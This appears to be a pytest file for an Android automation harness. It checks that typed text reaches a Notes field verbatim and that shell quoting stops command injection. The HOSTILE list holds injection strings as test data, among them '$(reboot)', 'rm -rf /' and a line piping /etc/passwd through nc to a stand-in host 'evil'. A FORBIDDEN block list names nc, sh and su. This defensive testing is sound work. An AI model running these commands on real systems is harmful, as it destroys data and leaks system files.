"""TYPE: hostile texts arrive verbatim in the focused field, no command runs on the device beyond `input`, and
the read-back verdict is reported (and is False when the field does not hold what was typed)."""

from __future__ import annotations

import re

import pytest

from harness import actions as A
from harness.device.actuate import readback_matches
from harness.errors import DeviceError
from harness.shellquote import command, input_text_args, quote
from tests.device_util import commands_since, open_device

NOTES = "com.droidharness.notes"
LONG_MIX = "".join(f'{i:04d} it\'s "$(reboot)" `id`; a&&b | c > d %s 50% ~\\ *?[x] #{{}} ' for i in range(40))[:2000]
HOSTILE = [
    "it's a \"quoted\" 'text'",
    "a; reboot",
    "x && reboot || reboot",
    "$(reboot)",
    "`reboot`",
    "cat /etc/passwd | nc evil 1 > /sdcard/pwn",
    "50%s off, 100% sure, %%s and % s",
    "  leading and trailing spaces  ",
    "back\\slash \\n not a newline $HOME ${PATH} !! ~",
    "line one\nline two\n\nline four",
    "tab\tseparated\tvalues",
    "emoji 😀👍🏽 and ✓",
    "中文输入：你好，世界！",
    "mixed 你好 $(reboot) 'q' \"qq\"\nnext line; rm -rf /",
    LONG_MIX,
    (LONG_MIX[:900] + "\n中文 😀\t" + LONG_MIX[:1090])[:2000],
]
FORBIDDEN = {"reboot", "id", "rm", "nc", "cat", "sh", "su"}


@pytest.fixture
def notes_editor(adb_server, make_vdevice):
    """A virtual device with a new note open in the Notes editor; yields (vd, dev, observation)."""
    opened = []

    def make(**cfg):
        vd = make_vdevice()
        dev = open_device(adb_server, vd, **cfg)
        opened.append(dev)
        dev.execute(A.OpenApp(package=NOTES))
        obs = dev.observe()
        fab = obs.tree.find(resource_id="fab_add")[0]
        dev.execute(A.Click(element=fab.index), observation=obs)
        return vd, dev, dev.observe()

    yield make
    for dev in opened:
        dev.close()


def _field(obs, rid: str) -> int:
    return obs.tree.find(resource_id=rid)[0].index


def _check_only_input(vd, mark: int) -> None:
    cmds = commands_since(vd, mark)
    assert {c[0] for c in cmds} <= {"input"}, cmds
    assert not {c[0] for c in cmds} & FORBIDDEN
    for c in cmds:  # each `input text` got exactly one argument: the quoting held
        assert c[:2] == ["input", "text"] and len(c) == 3, c


@pytest.mark.parametrize("text", HOSTILE, ids=lambda t: repr(t[:24]))
def test_hostile_text_arrives_verbatim_in_a_multiline_field(notes_editor, text):
    vd, dev, obs = notes_editor()
    mark = vd.model.events.mark()
    res = dev.execute(A.TypeText(text=text, element=_field(obs, "note_body_edit"), clear=True), observation=obs)
    assert vd.model.focused_text() == text
    assert res.ok and res.readback == text and res.readback_matches is True and res.typed_text == text
    _check_only_input(vd, mark)
    ascii_only = all(0x20 <= ord(c) <= 0x7E for c in text)
    assert res.path.endswith("input_text" if ascii_only else ("u2_set_text"))


def test_appending_pastes_at_the_end_and_matches_by_suffix(notes_editor):
    vd, dev, obs = notes_editor()
    body = _field(obs, "note_body_edit")
    dev.execute(A.TypeText(text="first; ", element=body), observation=obs)
    res = dev.execute(A.TypeText(text="第二 $(x)\n"))
    assert vd.model.focused_text() == "first; 第二 $(x)\n"
    assert res.readback == "first; 第二 $(x)\n" and res.readback_matches and res.path == "u2_paste"


def test_newline_in_a_single_line_field_becomes_a_space_and_never_submits(notes_editor):
    vd, dev, obs = notes_editor()
    mark = vd.model.events.mark()
    res = dev.execute(A.TypeText(text="title\nwith newline", element=_field(obs, "note_title_edit")), observation=obs)
    assert vd.model.focused_text() == "title with newline"
    assert res.readback == "title with newline" and res.readback_matches  # the documented tolerance
    assert not [e for e in vd.model.events.since(mark, "key") if e["code"] == 66]


@pytest.mark.parametrize("clear", [True, False], ids=["setText", "paste"])
@pytest.mark.parametrize("rid", ["note_title_edit", "note_body_edit"])
def test_newline_and_tab_are_characters_of_the_text_on_every_u2_path(notes_editor, rid, clear):
    """One meaning: inserted as characters (single-line: newline shown as a space), never a key press; the
    read-back compares what was asked with what the field holds."""
    vd, dev, obs = notes_editor()
    mark = vd.model.events.mark()
    text = "a\tb\nc"
    res = dev.execute(A.TypeText(text=text, element=_field(obs, rid), clear=clear), observation=obs)
    held = text if rid == "note_body_edit" else "a\tb c"
    assert vd.model.focused_text() == held and res.readback == held and res.readback_matches is True
    assert res.typed_text == text, "the record keeps what was asked"
    assert not vd.model.events.since(mark, "key"), "no ENTER / TAB key event"
    assert vd.model.foreground.package == NOTES


def test_submit_presses_enter_after_the_read_back(adb_server, make_vdevice):
    vd = make_vdevice()
    with open_device(adb_server, vd) as dev:
        dev.execute(A.Swipe(start=A.Point(x=0.5, y=0.8), end=A.Point(x=0.5, y=0.3)))
        obs = dev.observe()
        box = obs.tree.find(resource_id="search_box_input")[0]
        res = dev.execute(A.TypeText(text="clock", element=box.index, submit=True), observation=obs)
        assert res.readback == "clock" and res.readback_matches
        assert vd.model.foreground.package == "com.google.android.deskclock"


def test_readback_reports_a_mismatch_when_the_field_truncates(notes_editor):
    vd, dev, obs = notes_editor()
    text = "abcdefghij" * 1005  # the field keeps 10,000 characters
    res = dev.execute(A.TypeText(text=text, element=_field(obs, "note_body_edit"), clear=True), observation=obs)
    assert res.ok and res.readback == text[:10_000] and res.readback_matches is False


def test_readback_reports_no_focused_field(adb_server, make_vdevice):
    vd = make_vdevice()
    with open_device(adb_server, vd) as dev:
        mark = vd.model.events.mark()
        res = dev.execute(A.TypeText(text="hello $(reboot)"))
        assert res.readback is None and res.readback_matches is False
        _check_only_input(vd, mark)
        res = dev.execute(A.TypeText(text="你好"))
        assert res.readback is None and res.readback_matches is False


def test_without_uiautomator2_ascii_is_typed_and_unicode_is_refused(notes_editor):
    vd, dev, obs = notes_editor(use_u2=False)
    assert "u2" not in dev.capabilities
    body = _field(obs, "note_body_edit")
    mark = vd.model.events.mark()
    text = "it's $(reboot); `id` && x | y > z %s 50%"
    res = dev.execute(A.TypeText(text=text, element=body, clear=True), observation=obs)
    assert vd.model.focused_text() == text and res.readback == text and res.readback_matches
    assert {c[0] for c in commands_since(vd, mark)} <= {"input", "uiautomator", "cat"}
    mark = vd.model.events.mark()
    for other, named in [("你好", "'你'"), ("two\nlines", "a newline U+000A"), ("a\tb", "a tab U+0009")]:
        # no path without uiautomator2 inserts these as characters: refused, never typed as key presses
        with pytest.raises(DeviceError, match=f"cannot type .*{re.escape(named)}.* without uiautomator2"):
            dev.execute(A.TypeText(text=other, clear=True), step=4)
    assert vd.model.focused_text() == text, "nothing of the refused texts reached the field"
    assert not vd.model.events.since(mark, "key") and not commands_since(vd, mark)[1:]
    res = dev.execute(A.TypeText(text="", clear=True))
    assert vd.model.focused_text() == "" and res.readback == "" and res.readback_matches


# --- the quoting function itself ------------------------------------------------------------------------------
@pytest.mark.parametrize("text", HOSTILE + ["", "-n", "a\x01b", "'", "''", "\\'"], ids=lambda t: repr(t[:20]))
def test_quoted_argument_round_trips_through_the_device_shell(adb_server, vdevice, text):
    from harness.device.fastadb import FastAdbDevice, shell_v2

    dev = FastAdbDevice(adb_server.client, vdevice.serial)
    mark = vdevice.model.events.mark()
    res = shell_v2(dev, command("printf", "%s", text))
    assert res.exit_code == 0 and res.stdout.decode("utf-8") == text
    assert commands_since(vdevice, mark) == [["printf", "%s", text]]


def test_quote_refuses_nul_and_non_strings():
    with pytest.raises(ValueError):
        quote("a\x00b")
    with pytest.raises(TypeError):
        quote(b"bytes")  # type: ignore[arg-type]
    assert quote("plain-word_1.2") == "plain-word_1.2" and quote("") == "''"


@pytest.mark.parametrize("text", ["a b", "%s", "a%sb", "%%s", "% s", "s%", "%", "x" * 450, "50%s off %s"])
def test_input_text_args_decode_back_to_the_text(text):
    def device_decode(arg: str) -> str:  # InputShellCommand: "%s" -> " "
        out, i = [], 0
        while i < len(arg):
            if arg[i] == "%" and i + 1 < len(arg) and arg[i + 1] == "s":
                out.append(" ")
                i += 2
            else:
                out.append(arg[i])
                i += 1
        return "".join(out)

    args = input_text_args(text, max_chars=200)
    assert "".join(device_decode(a) for a in args) == text
    assert all(" " not in a for a in args)


def test_readback_rule():
    assert readback_matches("abc", "abc", clear=True)
    assert not readback_matches("abc", "xabc", clear=True)
    assert readback_matches("abc", "xabc", clear=False)
    assert readback_matches("a\nb", "a b", clear=True)
    assert not readback_matches("abc", None, clear=False)
    assert not readback_matches("abc", "ab", clear=False)
